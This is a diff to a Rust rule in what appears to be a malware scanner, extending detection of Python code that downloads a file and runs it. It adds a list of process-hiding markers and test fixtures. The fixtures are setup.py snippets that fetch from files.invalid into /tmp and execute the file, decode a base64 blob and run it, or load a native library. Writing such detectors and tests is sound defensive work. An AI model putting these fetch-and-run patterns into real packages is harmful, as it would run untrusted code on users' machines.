@@ -2,9 +2,11 @@
 
 use portcullis_core::inspection::{Confidence, Observation, Severity};
 
-use super::sent::FAR;
-use super::{Rule, in_context, observe_flow};
-use crate::python::{Analysis, Label, SinkKind};
+use super::beside::{self, BESIDE};
+use super::given::is_worked_on;
+use super::sent::{FAR, asks_constant, host_of, is_asked_for, source_call, texts};
+use super::{Rule, even_if_asked, in_context, observe_call, observe_flow};
+use crate::python::{Analysis, Flow, Label, SinkKind};
 
 /// The rule.
 pub(super) struct Dropper;
@@ -37,15 +39,22 @@ impl Rule for Dropper {
                 flow.kind,
                 SinkKind::Command | SinkKind::Executable | SinkKind::Native
             );
-            if flow.label != Label::Dropped || !starts {
+            if flow.label != Label::Dropped
+                || !starts
+                || is_worked_on(analysis, analysis.sink(flow))
+            {
                 continue;
             }
-            let worst = if flow.hops > FAR {
+            let worst = if flow.hops > FAR || is_asked_for(analysis, flow) {
                 Severity::Medium
             } else {
                 Severity::High
             };
-            let severity = in_context(worst, flow.context);
+            // A function that fetches a program is a driver that somebody wants, unless it hides.
+            let severity = match asks_constant(analysis, flow) && is_secret(analysis, flow) {
+                true => even_if_asked(worst, flow.context),
+                false => in_context(worst, flow.context),
+            };
             let confidence = Confidence::of(90).in_context(flow.context);
             let message = format!(
                 "{} starts a file that came from {}",
@@ -59,7 +68,42 @@ impl Rule for Dropper {
                 message,
             ));
         }
+        for call in beside::fetched_and_started(analysis) {
+            let is_told = observations
+                .iter()
+                .any(|seen| seen.rule == self.id() && call.place.file == seen.file);
+            if !is_told {
+                let severity = in_context(Severity::High, call.context);
+                let message = format!(
+                    "{} starts something where a file is fetched and written",
+                    call.target
+                );
+                observations.push(observe_call(self, call, (severity, BESIDE), message));
+            }
+        }
     }
+}
+
+/// Whether what is fetched comes without encryption or from a bare address, or is started so that nobody
+/// sees it or from where nobody looks.
+fn is_secret(analysis: &Analysis, flow: &Flow) -> bool {
+    let sink = analysis.sink(flow);
+    let hides = [
+        "DEVNULL",
+        "CREATE_NO_WINDOW",
+        "start_new_session",
+        "SW_HIDE",
+        "0x08000000",
+    ];
+    let is_plain = |text: &&str| {
+        let is_number = |host: &str| host.parse::<std::net::IpAddr>().is_ok();
+        text.starts_with("http://") || host_of(text).is_some_and(is_number)
+    };
+    let is_hidden = |text: &&str| text.contains("/.");
+    let asked = source_call(analysis, flow);
+    asked.is_some_and(|call| texts(call).iter().any(is_plain))
+        || hides.iter().any(|word| sink.code.contains(word))
+        || flow.kind == SinkKind::Command && texts(sink).iter().any(is_hidden)
 }
 
 #[cfg(test)]
@@ -86,6 +130,14 @@ mod tests {
                 "from pathlib import Path\nimport urllib.request as u, ctypes\np = Path('/tmp/native.so')\np.write_bytes(u.urlopen('https://files.invalid/a').read())\nctypes.CDLL(str(p))",
             ),
             (
+                "setup.py",
+                "import urllib.request, subprocess, sys\nurllib.request.urlretrieve('https://files.invalid/a.py', '/tmp/list.py')\nsubprocess.run([sys.executable, '/tmp/list.py'])",
+            ),
+            (
+                "setup.py",
+                "import urllib.request, subprocess\nurllib.request.urlretrieve('https://files.invalid/a.sh', '/tmp/list.sh')\nsubprocess.run('git status; sh /tmp/list.sh', shell=True)",
+            ),
+            (
                 "demo/__init__.py",
                 "import base64, os\nopen('/tmp/dropped', 'wb').write(base64.b64decode(blob))\nos.system('/tmp/dropped &')",
             ),
@@ -108,6 +160,18 @@ mod tests {
             (
                 "setup.py",
                 "import subprocess\nsubprocess.check_call(['make'])",
+            ),
+            (
+                "setup.py",
+                "import urllib.request, subprocess\nfolder = urllib.request.urlopen('https://files.invalid/newest').read().decode()\nwith open(folder + '/configure', 'rb') as f:\n    script = f.read()\nwith open(folder + '/configure', 'wb') as f:\n    f.write(script)\nsubprocess.call(['./configure'])",
+            ),
+            (
+                "setup.py",
+                "import urllib.request, subprocess\nurllib.request.urlretrieve('https://files.invalid/a.yml', '/tmp/list.yml')\nsubprocess.run(['git', 'add', '/tmp/list.yml'])",
+            ),
+            (
+                "setup.py",
+                "import urllib.request, subprocess, sys\nurllib.request.urlretrieve('https://files.invalid/a.yml', '/tmp/list.yml')\nsubprocess.run([sys.executable, '-m', 'setup', '--list=/tmp/list.yml'])",
             ),
         ] {
             quiet("PRC-003", path, code);
